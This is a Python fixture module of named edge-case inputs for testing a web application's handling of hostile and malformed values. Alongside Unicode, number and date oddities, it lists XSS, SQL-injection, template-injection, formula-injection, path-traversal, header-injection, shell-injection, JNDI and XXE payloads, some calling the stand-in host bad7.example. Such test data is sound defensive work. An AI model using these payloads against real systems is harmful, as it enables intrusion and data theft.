"""What nobody means to type: each value by a name, so that a failure can say which it was.

A value is text. What is no Unicode (half a surrogate pair) travels as the bytes it would have: see `sending.as_bytes`.
Wherever markup or a template is tried, it carries a mark by which it is known again: an element or attribute called
`bad7`, a product (1234 × 4321) that nobody typed.
"""

PRODUCT = "5332114"
HEADER = "X-Bad7"
LONGEST_IN_AN_ADDRESS = 6_000


def _named(family, values):
    return {f"{family} {number}: {value[:24]!r}": value for number, value in enumerate(values, 1)}


UNICODE = _named(
    "Unicode",
    [
        "\ud800", "\udfff", "before \ud83d after", "\udc00\ud800", "\ufffd", "\ufffe", "\uffff",
        "\U0010ffff", "\U000e0041\U000e0042", "\ufeffAmber", "Am\u200bber", "Am\u200cber", "Am\u200dber",
        "Am\u2060ber", "\u00adAmber", "\u202eAmber\u202c", "\u202dAmber", "\u2066Amber\u2069",
        "\u2067rebmA", "\u200f\u200e", "\u061cAmber", "file\u202egpj.exe", "Z" + "\u0351\u0343\u0368" * 40,
        "e" + "\u0301" * 500, "\u0301", "\u00e9", "e\u0301", "\u00c5", "\u212b", "A\u030a", "ﬁ", "ſ", "ß",
        "ẞ", "İ", "ı", "dž", "ǅ", "\u03a9", "\u2126", "가", "\u1100\u1161", "👩\u200d👩\u200d👧\u200d👦",
        "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "👍🏽", "🇬🇧", "🇬", "1\ufe0f\u20e3",
        "💥" * 400, "𝒜𝓂𝒷𝑒𝓇", "Аmber", "Ⓐmber", "امبر", "שלום", "एम्बर", "琥珀", "အမ်ဘာ", "﷽" * 50, "\u2028",
        "\u2029", "one\u2028two\u2029three", "\u0085", "\u00a0", "\u3000", "\u180e", "\u2800", "ᅟ",
        "\ue000", "\U000f0000", "𐀀", "ᛒ", "𒐫", "꧁Amber꧂", "\ufff9a\ufffab\ufffb", "\u034f", "\u115f\u1160",
    ],
)  # fmt: skip
CONTROL = _named(
    "control",
    [
        "\x00", "before\x00after", "\x00\x00\x00\x00", "%00", "\\0", "\\u0000", "\x01", "\x07",
        "\x08\x08\x08", "\t", "\n", "\r", "\r\n", "\x0b", "\x0c", "\x1a", "\x1b[31mred\x1b[0m",
        "\x1b]0;title\x07", "\x1f", "\x7f", "\x80", "\x9b", "", " ", "   \t \n ", "\v\f\x1c\x1d\x1e",
        "a\n" * 2000,
    ],
)  # fmt: skip
HUGE = {
    "huge 1: 10,000 letters": "a" * 10_000,
    "huge 2: a million letters": "a" * 1_000_000,
    "huge 3: 10,000 wide letters": "琥" * 10_000,
    "huge 4: 10,000 spaces and a letter": " " * 10_000 + "a",
    "huge 5: 10,000 brackets": "(" * 10_000,
    "huge 6: 10,000 digits": "9" * 10_000,
    "huge 7: 5,000 digits": "1" * 5_000,
    "huge 8: 4,301 digits": "7" * 4_301,
    "huge 9: 3,000 words": "word " * 3_000,
    "huge 10: 2,001 letters": "b" * 2_001,
    "huge 11: 255 letters": "c" * 255,
    "huge 12: 256 letters": "d" * 256,
    "huge 13: an e-mail address": "e" * 300 + "@" + "f" * 300 + ".org",
    "huge 14: slashes": "/" * 3_000,
    "huge 15: commas": "," * 5_000,
    "huge 16: nested markup": "<b>" * 2_000,
    "huge 17: 71 letters": "g" * 71,
    "huge 18: at signs": "@" * 5_000,
}
NUMBERS = _named(
    "number",
    [
        "0", "-0", "-1", "-9999999999", "1.5", "-1.5", "1,5", "1,000", ".5", "5.", "1e3", "1e309",
        "-1e309", "1E400", "NaN", "nan", "-NaN", "sNaN", "Infinity", "-Infinity", "inf", "0x10", "0b1",
        "0o7", "010", "+1", "--1", "1_000", "1 000", "2147483647", "2147483648", "-2147483649", "32768",
        "65536", "4294967296", "9007199254740993", "9223372036854775807", "9223372036854775808",
        "-9223372036854775809", "18446744073709551616", "1" + "0" * 40, "0.1e-400", "1/0", "1;2", "٣",
        "１２", "१२", "๑๒", "𝟙𝟚", "①", "²", "½", "Ⅻ", "一二", "౧", "߁", "𐒠", "१.५", "True", "true", "None",
        "null", "undefined", "NULL", "on", "[object Object]",
    ],
)  # fmt: skip
DATES = _named(
    "date",
    [
        "0000-00-00", "0000-01-01", "0001-01-01", "9999-12-31", "10000-01-01", "2025-02-31", "2025-02-29",
        "2024-02-30", "2025-13-01", "2025-00-10", "2025-12-32", "-2025-01-01", "2025-1-1", "20250101",
        "2025-W01-1", "2025-366", "31/02/2025", "31.02.2025", "2025-12-10T25:61:61",
        "2025-12-10T00:00:00+99:99", "2025-12-10 00:00:00Z", "1752-09-05", "2025-03-30T01:30:00",
        "99999999999-01-01", "２０２５-１２-１０", "today", "-1", "31", "32", "99", "9999", "00", "feb", "Smarch",
        "1970-01-01", "2038-01-19", "2025-12-10\x00", "1e3-1-1",
    ],
)  # fmt: skip
MARKUP = _named(
    "markup",
    [
        "<script>bad7()</script>", "<ScRiPt>bad7()</sCrIpT>", "</script><script>bad7()</script>",
        "<script src=//bad7.example>", "<bad7>", "<bad7 bad7=1>text</bad7>", '"><bad7>', "'><bad7>",
        '" bad7="1', "' bad7='1", '" onmouseover="bad7()', "' onfocus='bad7()' autofocus='", "` bad7=1",
        "<img src=x onerror=bad7()>", "<svg onload=bad7()>", "<svg/onload=bad7()>",
        "<iframe src=javascript:bad7()>", "<body onload=bad7()>", "<a href=javascript:bad7()>bad7</a>",
        "</textarea><bad7>", "</textarea><script>bad7()</script>", "</title><bad7>", "</style><bad7>",
        "</option></select><bad7>", "<!--", "--><bad7>", "<![CDATA[<bad7>]]>", "<?bad7 ?>",
        "<!DOCTYPE bad7>", "&lt;bad7&gt;", "&#60;bad7&#62;", "&", "&amp;", "&bad7;", "&#0;", "&#x110000;",
        "<", ">", '"', "'", "`", "<<bad7>>", "<bad7", "<bad7/", "< bad7>", "<\x00bad7>", "<bad7\n>",
        "javascript:bad7()", "JaVaScRiPt:bad7()", "java\tscript:bad7()", "\x01javascript:bad7()",
        "data:text/html,<bad7>", "vbscript:bad7()", "//bad7.example/", "https://bad7.example/",
        "/\\bad7.example", "https:bad7.example", "\\\\bad7.example\\c", "<base href=//bad7.example>",
        "<meta http-equiv=refresh content=0;url=//bad7.example>", "<form action=//bad7.example>",
        "<link rel=stylesheet href=//bad7.example>", "<style>*{background:url(//bad7.example)}</style>",
        "<math><mi bad7=1>", "<template><bad7></template>", "<noscript><p title='</noscript><bad7>'>",
        "＜bad7＞", "+ADw-bad7+AD4-", "%3Cbad7%3E", "%253Cbad7%253E", "\\u003cbad7\\u003e", "\\x3cbad7\\x3e",
        "\";bad7()//", "';bad7()//", "\\\";bad7()//", "hx-get='/bad7'",
        '" hx-get="/bad7" hx-trigger="load', "[bad7](javascript:bad7())", "<br bad7>", "<b>bad7</b>",
    ],
)  # fmt: skip
TEMPLATES = _named(
    "template",
    [
        "{{7*7}}", "{{1234*4321}}", "{{ 1234|add:4321 }}", "{% now 'Y' %}", "{% debug %}",
        "{% include 'base.html' %}", "{% load x %}", "{{ settings.SECRET_KEY }}",
        "{{ request.user.password }}", "{{", "}}", "{%", "%}", "{#", "{# bad7", "{% comment %}",
        "{% endblock %}", "${1234*4321}", "#{1234*4321}", "*{1234*4321}", "@{1234*4321}",
        "<%= 1234*4321 %>", "${{1234*4321}}", "#set($x=1234*4321)$x", "{php}echo 1234*4321;{/php}",
        "{{''.__class__.__mro__}}", "{0}", "{0.__class__}", "%s", "%n%n%n%n", "%(name)s", "%d", "%", "%%",
        "%1$s", "{name}", "$name", "${jndi:ldap://bad7.example/a}", "`id`", "$(id)", "; id", "| id",
        "&& id", "{{constructor.constructor('bad7()')()}}", "{children}", "{", "}", "{}", "{{}}",
        "\\N{BULLET}",
    ],
)  # fmt: skip
FORMULAS = _named(
    "formula",
    [
        "=1234*4321", "=HYPERLINK(\"//bad7.example\")", "+1234*4321", "-1234*4321", "@SUM(A1)",
        "\t=1234*4321", "\r=1234*4321", "=cmd|' /C calc'!A0", "=1+1\";=1+1", ";=1+1", "＝1+1", "'=1+1",
        " =1+1",
    ],
)  # fmt: skip
SQL = _named(
    "SQL",
    [
        "'", "''", "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "1; DROP TABLE cases_case;--",
        "1 OR 1=1", "1' AND SLEEP(5)--", "' UNION SELECT NULL,NULL--", "1) OR (1=1", "\\'", "%' OR '%'='",
        "%", "_", "\\", "\\%", "*", "?", "$1", "%(id)s", "/* */", "admin'--", "'||(SELECT version())||'",
        "pg_sleep(5)", "id__gt", "password__startswith", "(", ")", "[", "(?P<a>", "a{99999}", "(a+)+$",
        "\\1",
    ],
)  # fmt: skip
PATHS = _named(
    "path",
    [
        "..", ".", "../", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd",
        "C:\\boot.ini", "%2e%2e%2f", "%252e%252e%252f", "..%2f", "..%5c", "..%c0%af", "....//", "/", "//",
        "\\", "file:///etc/passwd", "a/b", "a?b", "a#b", "a;b", "a&b=c", "~root", "CON", "nul",
        "a.pdf\x00.exe", "a" * 250 + ".pdf", ".htaccess", "con.pdf", "new", "edit", "a\\b", "%", "%zz",
        "%u0041", "%ff", "%c3%28",
    ],
)  # fmt: skip
HEADERS = _named(
    "header",
    [
        f"x\r\n{HEADER}: 1", f"x\n{HEADER}: 1", f"x\r{HEADER}: 1", f"x%0d%0a{HEADER}: 1",
        f"x%0a{HEADER}:1", "\r\n\r\n<bad7>", "/\r\nSet-Cookie: bad7=1", f"x\u560d\u560a{HEADER}: 1",
        f"x\u2028{HEADER}: 1", f"x\x85{HEADER}: 1", "a@b.org\nBcc: bad7@example.org",
        "a@b.org\r\nBcc: bad7@example.org", "a@b.org%0ABcc:bad7@example.org", 'x"; filename="bad7.exe',
        "x; bad7=1", "bad7,bad7", "=?utf-8?q?bad7?=", "Amber <a@b.org>", "a@b", "@", "a@[127.0.0.1]",
        '"a b"@c.org', "a@b..org", "ä@ö.org",
    ],
)  # fmt: skip
STRUCTURES = _named(
    "structure",
    [
        "{}", "[]", "[[]]", '{"a":', '{"id":"\\ud800"}', '{"id":"\\u0000"}', '{"id":1e999}',
        '{"rawId":[]}', "[" * 3_000, '{"a":' * 500, '"text"', "1", "null", "true", "NaN",
        '{"__proto__":{"bad7":1}}', "a: &a [*a, *a]", "!!python/object:os.system", "O:8:bad7",
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "a,b,c",
        "a=b", "a=b&c=d", "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff",
        "{00000000000040008000000000000000}", "urn:uuid:00000000-0000-4000-8000-000000000000",
        "00000000-0000-4000-8000-00000000000g", "not-a-uuid",
    ],
)  # fmt: skip
FAMILIES = (
    UNICODE, CONTROL, HUGE, NUMBERS, DATES, MARKUP, TEMPLATES, FORMULAS, SQL, PATHS, HEADERS, STRUCTURES
)  # fmt: skip


def _distinct():
    """Each value once, under the first name it has."""
    first = {}
    for family in FAMILIES:
        for name, value in family.items():
            first.setdefault(value, name)
    return {name: value for value, name in first.items()}


VALUES = _distinct()


def part_of(values, part):
    """An equal part of them: with "3/8" every eighth from the third on, so that each part has something of every family."""
    number, of = map(int, part.split("/"))
    return dict(list(values.items())[number - 1 :: of])
